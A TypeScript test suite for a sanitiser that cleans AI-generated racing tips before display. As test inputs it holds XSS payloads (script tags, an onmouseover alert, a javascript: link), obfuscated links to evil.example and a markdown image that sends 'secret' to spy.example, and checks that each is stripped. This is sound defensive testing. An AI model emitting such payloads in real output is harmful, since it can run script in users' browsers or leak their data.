import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { LONGEST_ANSWER, safeText } from '#core/kernel/safe-text.ts';

const test = suite('Text of models on its way to screens');

test('plain lines, points and stress pass', () => {
  const text = 'Take **#4** to win.\n- $20 win #4\n- $2 exacta 4 / 1,2';
  assert.is(safeText(text), text);
});

for (const [what, text, left] of [
  ['a tag', 'Bet <b onmouseover=alert(1)>now</b>', 'Bet now'],
  ['a script', '<script>alert(1)</script>fine', 'alert(1)fine'],
  ['a tag made of two', '<scr<script>ipt>x</script>', 'iptx'],
  ['a link', 'See [the card](javascript:alert(1)) here', 'See the card) here'],
  ['an image that tells where you are', '![x](https://spy.example/?q=secret) ok', 'x ok'],
  ['an address', 'Go to https://evil.example/a?b=c now', 'Go to  now'],
  ['a code fence', '```html\nhello\n```', 'hello'],
  ['a heading', '# Race 3\nText', 'Race 3\nText'],
  ['unseen characters', 'A\u202eB\u0000C\u200bD', 'ABCD'],
  ['an address with a code mark in it', 'Go to htt`ps://evil.example/a now', 'Go to  now'],
  ['an address with a bracket in it', 'Go to ht>tps://evil.example/a now', 'Go to  now'],
  ['an address in a fence', 'Go to ht```x\ntps://evil.example now', 'Go to  now'],
  ['a link with a code mark in it', 'See [the card]`(/leave) here', 'See the card here'],
  ['an image behind a code mark', '!`[x](/spy) ok', 'x ok'],
  ['a heading in a quotation', '> > # Race 3\nText', 'Race 3\nText'],
  ['a heading behind a tag', '<b># Race 3', 'Race 3'],
  ['half a character', 'A\ud800B\udc00C', 'ABC'],
] as const) {
  test(`${what} is taken out`, () => assert.is(safeText(text), left));
}

test('text that goes through once goes through again unaltered', () => {
  for (const text of [
    '>`# x',
    '[a]>(b)',
    '``ht`tps://x',
    '- - * x',
    '!<b>[[x](y)](z)',
    'w`ww.evil.example',
    '#`# x',
  ])
    assert.is(safeText(safeText(text)), safeText(text));
});

test('marks within marks without end leave no mark', () => {
  const text = safeText(`${'['.repeat(2_000)}x${'](b)'.repeat(2_000)}`);
  assert.not.match(text, /[\](:]/);
});

test('an endless answer is cut at a sentence', () => {
  const cut = safeText('It is a sentence. '.repeat(1_000));
  assert.ok(cut.length <= LONGEST_ANSWER && cut.endsWith('.'));
});

test('bullet points of any kind become dashes and are not read as emphasis', () => {
  assert.is(
    safeText('* #4 to win\n  • #2 to place\n+ #6\n**bold** stays'),
    '- #4 to win\n- #2 to place\n- #6\n**bold** stays',
  );
});

test('rules between parts go, and at most one line stays blank', () => {
  assert.is(safeText('Race 1\n---\nRace 2\n\n\n\n* * *\n\nRace 3'), 'Race 1\n\nRace 2\n\nRace 3');
});

test('lines end without blanks, in one kind of line break', () => {
  assert.is(safeText('  Race 1 \t\r\nRace 2\rRace 3  '), 'Race 1\nRace 2\nRace 3');
});

test('an answer of exactly the longest length stays whole', () => {
  const sentence = 'Ten letters. ';
  const whole = sentence
    .repeat(500)
    .slice(0, LONGEST_ANSWER - 1)
    .concat('.');
  assert.is(safeText(whole), whole);
  assert.ok(safeText(`${whole} And more.`).length < LONGEST_ANSWER);
});

test('a longer one is cut at the last line where that comes after the last sentence', () => {
  const text = `${'x'.repeat(4_000)}. ${'y'.repeat(1_000)}\n${'z'.repeat(3_000)}`;
  assert.is(safeText(text), `${'x'.repeat(4_000)}. ${'y'.repeat(1_000)}`);
});

test('one without an end of a sentence in its second half is cut at its length', () => {
  const text = `Short. ${'x'.repeat(10_000)}`;
  assert.is(safeText(text), text.slice(0, LONGEST_ANSWER));
});

test('nothing in is nothing out', () => {
  for (const text of ['', ' \n ', '```', '\u200b', '---'])
    assert.is(safeText(text), '', JSON.stringify(text));
});

test.run();
